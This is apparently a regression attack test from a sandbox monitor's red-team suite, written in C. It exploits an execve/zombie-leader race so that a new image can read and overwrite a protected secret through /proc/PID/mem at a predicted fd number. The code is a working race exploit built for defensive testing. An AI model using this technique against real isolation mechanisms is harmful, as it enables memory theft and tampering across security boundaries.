/* SPDX-License-Identifier: MIT */
/* atk_leader_exec.c: a thread erim-tem's hold must not skip because of what
 * it remembers about the task that had its TID before (red team 17,
 * rt_leader_exec).
 *
 * erim-tem holds every other task of a group while a racy call (an open,
 * whose fd exists before its exit check) is judged; it does not wait for a
 * thread-group leader that has exited (a zombie never stops).  It used to
 * remember that in the entry of the leader's TID, and when another thread
 * of the process called execve, the kernel's de_thread gave the exec'ing
 * thread the leader's TID (releasing the zombie without an exit report)
 * and the new image's main thread inherited "exited, do not hold" -- it was
 * never held again.  Now the kernel is asked at every hold, and the entry
 * of a TID is made anew at PTRACE_EVENT_EXEC (tem_main.c exec_takeover).
 *
 * The attack (in the fork child C that carries the registered secret): C
 * forks X; X's main thread exits with SYS_exit while thread Y lives; Y
 * checks that the leader is a zombie, opens /dev/null (a hold of the
 * group: the zombie leader is found exited), then execve()s this program.
 * The new image E starts a thread O that opens /proc/C/mem (refused at its
 * exit stop, closed by an injected close) while E's main thread spins on
 * pread/pwrite at the fd number O's open gets.  Succeeds when E read or
 * wrote the secret.
 *
 * Built twice: atk_leader_exec (X's leader exits first) and, with
 * -DATK_LEADER_ALIVE, atk_leader_exec_alive (the leader stays alive until
 * de_thread kills it: the same race with nothing to remember; red team
 * 17's control).  Without erim-tem both succeed: the open simply works
 * (it needs ptrace access to C: root, or Yama ptrace_scope 0; else the
 * control is not applicable and says so). */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>

#include "atk_common.h"

#define ENV_STAGE "ATK_LEADER_STAGE"
#define ENV_PID "ATK_LEADER_PID"
#define ENV_ADDR "ATK_LEADER_ADDR"
#define ATTEMPTS 150

/* stage 2's exit status: bits, or one of the codes above them */
#define ST_WROTE 1
#define ST_READ 2
#define ST_NOACCESS 4     /* the kernel refused the open (EACCES: no ptrace access to C) */
#define ST_ERROR 8
#define ST_NOT_ZOMBIE 9   /* the leader was not a zombie when Y opened: the set-up failed */

static atomic_int stage2_done, stage2_eacces;
static char stage2_path[96];

static void *opener(void *arg)
{
	int i, fd;

	(void)arg;
	for (i = 0; i < ATTEMPTS && !atomic_load(&stage2_done); i++) {
		fd = open(stage2_path, O_RDWR);
		if (fd >= 0) {           /* not refused (no erim-tem): let the main thread use it */
			usleep(20000);
			close(fd);
		} else if (errno == EACCES) {
			atomic_store(&stage2_eacces, 1);
		}
		usleep(2000);
	}
	atomic_store(&stage2_done, 1);
	return NULL;
}

/* E: the image exec'd after registration (untrusted from its first
 * instruction).  Runs before main. */
__attribute__((constructor)) static void leader_stage2(void)
{
	const char *s = getenv(ENV_STAGE), *p = getenv(ENV_PID), *a = getenv(ENV_ADDR);
	const char evil[8] = "EVILEVIL";
	uint8_t buf[16];
	pthread_t th;
	uintptr_t addr;
	long spins = 0;
	int g, st = 0;

	if (!s || strcmp(s, "2") != 0 || !p || !a)
		return;
	addr = (uintptr_t)strtoull(a, NULL, 16);
	snprintf(stage2_path, sizeof stage2_path, "/proc/%s/mem", p);
	g = dup(2);              /* the number the next open will get */
	close(g);
	if (pthread_create(&th, NULL, opener, NULL) != 0)
		_exit(ST_ERROR);
	while (!atomic_load(&stage2_done)) {
		spins++;
		if (pread(g, buf, sizeof buf, (off_t)(addr + 64)) == (ssize_t)sizeof buf) {
			size_t i;
			int all = 1;

			for (i = 0; i < sizeof buf; i++)
				all &= buf[i] == ATK_SECRET_BYTE;
			if (all && !(st & ST_READ)) {
				st |= ST_READ;
				atk_say("stage 2 (main thread): read the secret through fd %d after %ld spins", g, spins);
			}
			if (pwrite(g, evil, sizeof evil, (off_t)addr) == (ssize_t)sizeof evil && !(st & ST_WROTE)) {
				st |= ST_WROTE;
				atk_say("stage 2: wrote EVILEVIL over the secret through fd %d", g);
			}
			if ((st & 3) == 3)
				break;
		}
	}
	atomic_store(&stage2_done, 1);
	pthread_join(th, NULL);
	if (!st && atomic_load(&stage2_eacces))
		st = ST_NOACCESS;
	if (!st)
		atk_say("stage 2: the fd was never usable (%ld spins)", spins);
	fflush(stdout);
	_exit(st);
}

static char self_exe[512];
static char env_pid[64], env_addr[64];
static pid_t x_pid;

#ifdef ATK_LEADER_ALIVE
#define LEADER_ALIVE 1
#else
#define LEADER_ALIVE 0
#endif

/* 1 if the thread-group leader of this process is a zombie. */
static int leader_zombie(void)
{
	char name[64], buf[512], *r;
	ssize_t n;
	int fd;

	snprintf(name, sizeof name, "/proc/self/task/%d/stat", (int)getpid());
	if ((fd = open(name, O_RDONLY)) < 0)
		return 0;
	n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	r = strrchr(buf, ')');
	return r && r[1] == ' ' && r[2] == 'Z';
}

static void *stage_y(void *arg)
{
	char *argv[] = { (char *)"atk_leader_exec", NULL };
	char *envp[] = { (char *)ENV_STAGE "=2", env_pid, env_addr, NULL, NULL };
	const char *tun = getenv("GLIBC_TUNABLES");
	static char tunv[512];
	int fd, i;

	(void)arg;
	if (tun) {
		snprintf(tunv, sizeof tunv, "GLIBC_TUNABLES=%s", tun);
		envp[3] = tunv;
	}
	for (i = 0; !LEADER_ALIVE && i < 300 && !leader_zombie(); i++)
		usleep(10000);
	if (!LEADER_ALIVE && !leader_zombie()) {
		atk_say("the leader of process %d did not become a zombie", (int)getpid());
		_exit(ST_NOT_ZOMBIE);
	}
	fd = open("/dev/null", O_RDONLY);   /* a hold of the group: the leader is found exited (mode gone) */
	if (fd >= 0)
		close(fd);
	execve(self_exe, argv, envp);
	atk_say("execve: %s", strerror(errno));
	_exit(ST_ERROR);
}

static enum atk_result atk_attack(void)
{
	int st;

	if (readlink("/proc/self/exe", self_exe, sizeof self_exe - 1) <= 0)
		return ATK_ERROR;
	snprintf(env_pid, sizeof env_pid, ENV_PID "=%d", (int)getpid());
	snprintf(env_addr, sizeof env_addr, ENV_ADDR "=%lx", (unsigned long)(uintptr_t)atk_secret);
	fflush(stdout);
	x_pid = fork();
	if (x_pid == 0) {
		pthread_t y;

		if (pthread_create(&y, NULL, stage_y, NULL) != 0)
			_exit(ST_ERROR);
		if (LEADER_ALIVE)
			pthread_join(y, NULL);   /* held like any thread; de_thread kills it at the exec */
		syscall(SYS_exit, 0);    /* only this thread: the leader becomes a zombie */
		_exit(ST_ERROR);
	}
	if (x_pid < 0 || waitpid(x_pid, &st, 0) != x_pid)
		return ATK_ERROR;
	if (WIFSIGNALED(st)) {
		atk_say("stage 2 was stopped (signal %d)", WTERMSIG(st));
		return ATK_REFUSED;
	}
	st = WEXITSTATUS(st);
	atk_say("stage 2 exit status %d (bit 0 wrote, bit 1 read); leader %s", st, LEADER_ALIVE ? "alive" : "exited first");
	if (st == ST_NOACCESS) {
		atk_say("the kernel refused /proc/%d/mem to its descendant (EACCES): needs root or Yama ptrace_scope 0",
		        (int)getpid());
		return ATK_NA;
	}
	if (st >= ST_ERROR)
		return ATK_ERROR;
	return st & (ST_READ | ST_WROTE) ? ATK_SUCCEEDED : ATK_REFUSED;
}

#ifdef ATK_LEADER_ALIVE
static const char *atk_name = "atk_leader_exec_alive";
#else
static const char *atk_name = "atk_leader_exec";
#endif
static int atk_needs_pku = 0;
